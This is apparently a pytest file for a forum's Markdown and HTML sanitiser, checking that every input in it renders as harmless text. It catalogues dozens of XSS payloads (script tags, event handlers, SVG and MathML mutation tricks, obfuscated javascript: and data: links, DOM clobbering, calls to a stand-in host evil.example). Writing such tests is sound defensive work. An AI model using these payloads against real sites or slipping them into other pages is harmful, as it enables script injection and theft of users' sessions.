"""Hostile texts, after the kinds that sanitisers have met: none may leave more behind than words."""

import html

import pytest

from forum.core import richtext
from forum.core.markup import is_safe_href
from forum.core.richtext import to_html
from tests.core.richtext_audit import elements, violations, visible

RAW_HTML = {
    "script": "<script>alert(1)</script>",
    "script, split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script, upper case and blanks": "<SCRIPT\t>alert(1)</SCRIPT >",
    "script, unclosed": "<script src=//evil.example/x.js",
    "script, slash": "<script/src=data:,alert(1)>",
    "handler": "<img src=x onerror=alert(1)>",
    "handler, slash": "<img/src=x/onerror=alert(1)>",
    "handler, line break": "<img src=x\nonerror\n=\nalert(1)>",
    "handler, back-ticks": "<img src=`x`onerror=alert(1)>",
    "handler, quotes": '<img """><script>alert(1)</script>">',
    "handler, NUL": "<img src=x on\0error=alert(1)>",
    "handler, no blank": "<b onmouseover=alert(1)//",
    "handler, focus": "<input autofocus onfocus=alert(1)>",
    "handler, toggle": "<details open ontoggle=alert(1)>",
    "handler, animation": "<x style=animation-name:x onanimationstart=alert(1)>",
    "handler, marquee": "<marquee onstart=alert(1)>",
    "svg": "<svg onload=alert(1)>",
    "svg, script": "<svg><script>alert&#40;1)</script></svg>",
    "svg, link": '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "svg, animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg, use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "math": '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    "mutation, style in math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mutation, form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation, noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation, svg style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "mutation, title": "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></svg>",
    "mutation, template": "<template><s><template><s><img src=x onerror=alert(1)>",
    "mutation, textarea": "<textarea></textarea><script>alert(1)</script>",
    "mutation, select": "<select><template><style><!--</style><a rel='--></style></template></select><img onerror=a>'>",
    "mutation, table": "<table><tr><td><svg><desc><table><td><img src=x onerror=alert(1)>",
    "mutation, comment": "<!--><img src=x onerror=alert(1)>-->",
    "mutation, comment end": "<!-- --!><img src=x onerror=alert(1)>-->",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "processing": "<?xml version='1.0'?><script>alert(1)</script>",
    "declaration": "<!DOCTYPE html><html><body onload=alert(1)>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "clobbering, form": "<form id=document><input name=cookie></form>",
    "clobbering, link": "<a id=location href=//evil.example name=self>x</a>",
    "clobbering, image": '<img name=getElementById src="/pictures/a.png">',
    "style, element": "<style>body{background:url(//evil.example)}</style>",
    "style, attribute": '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>',
    "style, import": "<style>@import'//evil.example/x.css';</style>",
    "style, class": '<p class="button primary">x</p>',
    "link element": "<link rel=stylesheet href=//evil.example/x.css>",
    "meta": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "base": "<base href=//evil.example/>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "frame, scheme": "<iframe src=javascript:alert(1)>",
    "object": "<object data=javascript:alert(1)></object>",
    "embed": "<embed src=data:text/html,<script>alert(1)</script>>",
    "form": "<form action=//evil.example method=post><button>Sign in</button></form>",
    "form, button": "<button form=x formaction=javascript:alert(1)>x</button>",
    "target": '<a href="https://evil.example" target=_top>x</a>',
    "ping": '<a href="https://a.example" ping="https://evil.example">x</a>',
    "picture of others": "<img src=https://evil.example/pixel.gif srcset='https://evil.example 2x'>",
    "picture, scheme-relative": "<img src=//evil.example/pictures/a.png>",
    "video": "<video poster=//evil.example><source onerror=alert(1)></video>",
    "isindex": "<isindex type=image src=1 onerror=alert(1)>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;script>",
    "heading": "<h1 id=top>Kindling</h1>",
    "link, script scheme": "<a href=javascript:alert(1)>x</a>",
    "link, entities in the scheme": "<a href='java&#x09;script&colon;alert(1)'>x</a>",
    "link, data": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
}


@pytest.mark.parametrize("text", RAW_HTML.values(), ids=RAW_HTML)
def test_html_in_a_text_is_shown_as_it_was_written(text):
    for written in (text, f"a\n\n{text}\n\nb", f"> - {text}", f"**{text}**", f"| {text} |\n|-|\n| {text} |"):
        assert violations(to_html(written)) == []
    assert letters(html.unescape(text)) in letters(visible(to_html(text)))


def letters(text: str) -> str:
    return "".join(filter(str.isalnum, text))


@pytest.mark.parametrize("text", RAW_HTML.values(), ids=RAW_HTML)
def test_each_engine_alone_would_hold(text):
    """Should Markdown ever let HTML through, bleach stands behind it, and nh3 behind bleach."""
    for engine in (richtext._engines.bleach, richtext._engines.nh3):
        cleaned = engine.clean(text)
        assert [found for found in violations(cleaned) if "without rel" not in found] == []


FORBIDDEN_HREFS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\0script:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "&#106;avascript:alert(1)",
    "java&Tab;script&colon;alert&lpar;1&rpar;",
    "java&NewLine;script:alert(1)",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)",
    "javascript：alert(1)",
    "javascript://example.org/%0aalert(1)",
    "javascript:\\u0061lert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "view-source:javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html;base64,PHNjcmlwdD4=",
    "blob:https://example.org/1",
    "file:///etc/passwd",
    "filesystem:https://example.org/x",
    "ftp://example.org",
    "feed:javascript:alert(1)",
    "jar:https://example.org!/x",
    "about:blank",
    "tel:+4912345",
    "x-app:open",
    "//evil.example",
    "/\\evil.example",
    "/&sol;evil.example",
    "/&#47;evil.example",
    "/&bsol;evil.example",
    "https://example.org/&#8238;gro",
    "\\\\evil.example",
    "/\t/evil.example",
    "\\/evil.example",
    "http:evil.example",
    "http:/evil.example",
    "http:///evil.example",
    "https:\\\\evil.example",
    "http\u017f://evil.example",
    "ma\u0131lto:rosa@example.org",
    "https://example.org/\U000e0041",
    "https://\\evil.example",
    "https://example.org\\@evil.example",
    "https://exam`ple.org:`1",
    "https://example.org:80`javascript:alert(1)",
    "https://exam\u200bple.org",
    "https://example.org/\u202egro",
    "https://example.org/\u2066x",
    "https://example.org/a b",
    "https://example.org/\xa0",
    "https://example.org/" + "a" * 2_000,
    "https://?",
    "https://#",
    "mailto:",
    "mailto:?subject=x",
    "relative/path",
    "../up",
    "?query",
    ":",
    "",
]


@pytest.mark.parametrize("href", FORBIDDEN_HREFS)
def test_a_doubtful_address_never_becomes_a_link(href):
    assert not is_safe_href(href)
    for engine in (richtext._engines.bleach, richtext._engines.nh3):
        cleaned = engine.clean(f'<a href="{href.replace(chr(34), "&quot;")}">x</a>')
        assert [link.get("href") for link in elements(cleaned, "a")] == [None]


WAYS = [
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "[x][r]\n\n[r]: {}",
    "[x][r]\n\n[r]: <{}>",
    "[![x]({})]({})",
    "<{}>",
    "{}",
    "see {} there",
]


@pytest.mark.parametrize("href", FORBIDDEN_HREFS)
def test_no_way_of_writing_makes_it_one(href):
    for way in WAYS:
        assert violations(to_html(way.format(href, href))) == []


@pytest.mark.parametrize(
    "href",
    [
        "https://example.org",
        "HTTPS://example.org:8443/a/b;c?d=e&f=g#h",
        "http://user:word@example.org/",
        "https://münchen.example/straße",
        "https://[2001:db8::1]/",
        "mailto:rosa@example.org?subject=Thanks",
        "/challenges/customer-love",
        "/",
        "#comment-7",
        "https://example.org/" + "a" * 1_900,
    ],
)
def test_ordinary_addresses_stay(href):
    assert is_safe_href(href)
    [link] = elements(to_html(f"[x]({href})"), "a")
    assert link.get("href")


INJECTIONS = [
    '[x](https://example.org "onmouseover=alert(1)")',
    '[x](https://example.org/"onmouseover="alert(1))',
    "[x](https://example.org/'onmouseover='alert(1))",
    "[x](<https://example.org/><script>alert(1)</script>>)",
    '[x](https://example.org/"><script>alert(1)</script>)',
    '![x" onerror="alert(1)](/pictures/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-900x700.webp)',
    "![<script>alert(1)</script>](/pictures/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-900x700.webp)",
    "![x](/pictures/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-900x700.webp'onerror='alert(1))",
    "![x](/pictures/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-900x700.webp, https://evil.example/a.png 2x)",
    "![x](/pictures/%2e%2e/sign-out)",
    "![x](/pictures//evil.example/a.png)",
    '```"onclick="alert(1)\nx\n```',
    '```python class" onclick=alert(1)\nx\n```',
    "```\u202ejs\nx\n```",
    "[<script>alert(1)</script>](https://example.org)",
    "[`<script>`](https://example.org)",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "[a]: https://example.org '<script>'\n[a]",
    "<https://example.org/<script>>",
    "<javascript:alert(1)>",
    '<rosa@example.org"onclick=alert(1)>',
    'https://example.org/"onclick="alert(1)',
    "https://example.org/<script>alert(1)</script>",
    "www.example.org/'onclick='alert(1)",
    "rosa@example.org<script>",
    "#<script> @<script>",
    '#tag"onclick=alert(1) #tag/../x #%2e%2e',
    '@ada"onclick=alert(1) @../ada',
    '| <script> |\n|:-:"onclick=alert(1)|\n',
    "1\u0661. x",
    "999999999. x",
    "[x](https://example.org)[y](javascript:alert(1))",
    "[[x](https://example.org)](https://evil.example)",
    '<a href="https://example.org">[x](javascript:alert(1))</a>',
    "\\<script>alert(1)\\</script>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#0;&#xD800;&#x110000;&#xFFFF;",
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %>",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_markdown_cannot_be_bent_into_html(text):
    cleaned = to_html(text, {"ada"})
    assert violations(cleaned) == []
    assert "onclick" not in {name for element in elements(cleaned, "a") for name in element.attrib}


def test_a_template_in_a_text_is_words():
    assert to_html("{{ 7*7 }}") == "<p>{{ 7*7 }}</p>"
